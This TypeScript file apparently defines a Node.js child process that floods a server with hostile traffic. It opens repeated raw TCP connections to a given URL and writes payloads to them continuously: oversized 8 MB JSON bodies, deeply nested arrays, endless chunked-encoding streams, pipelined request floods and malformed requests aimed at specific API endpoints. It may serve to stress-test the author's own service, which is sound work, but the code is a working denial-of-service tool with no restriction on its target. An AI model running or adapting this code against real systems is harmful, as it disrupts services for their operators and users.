/** A child process that attacks a server without a key, on the connections it is told to open. */
import { connect } from 'node:net'

export interface Attack {
  readonly url: string
  /** One connection each, opened anew whenever it is cut. */
  readonly connections: number
}

const head = (path: string, length: string) =>
  `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n${length}\r\n\r\n`
const eightMb = `{"PhoneList":"","a":[${'[],'.repeat(2_600_000)}[]]}`
const lengthOf = (text: string) => `Content-Length: ${text.length}`
const deep = `[${'{"a":1},'.repeat(8_000)}[]]`

/** What is sent on the connections, in turn. */
const payloads: readonly string[] = [
  head('/v1.5/Scrub/litigator', lengthOf(eightMb)) + eightMb,
  head('/v1/decisions', lengthOf(eightMb)) + eightMb,
  head('/v1.5/Scrub/litigator', lengthOf(deep)) + deep,
  head('/app/main/rpc/scrub', 'Transfer-Encoding: chunked') + '1\r\n[\r\n'.repeat(300_000),
  'GET /v1/predial?number=2125550100&kind=ai HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(50),
  'GET /readyz HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(20),
  'POST /v1/decisions HTTP/1.1\r\nHost: x\r\nlogin',
  head('/app/main/rpc/pdnc', lengthOf(deep)) + deep.slice(0, 100),
]

function attack({ url, connections }: Attack): void {
  const { hostname, port } = new URL(url)
  const open = (index: number): void => {
    const socket = connect(Number(port), hostname)
    const pour = () => {
      while (!socket.destroyed && socket.write(payloads[index % payloads.length] ?? ''));
    }
    socket.on('connect', pour).on('drain', pour)
    socket.on('error', () => undefined).resume()
    socket.on('close', () => setTimeout(() => open(index), 1))
  }
  for (let index = 0; index < connections; index += 1) open(index)
}

process.on('message', attack)
process.on('disconnect', () => process.exit())
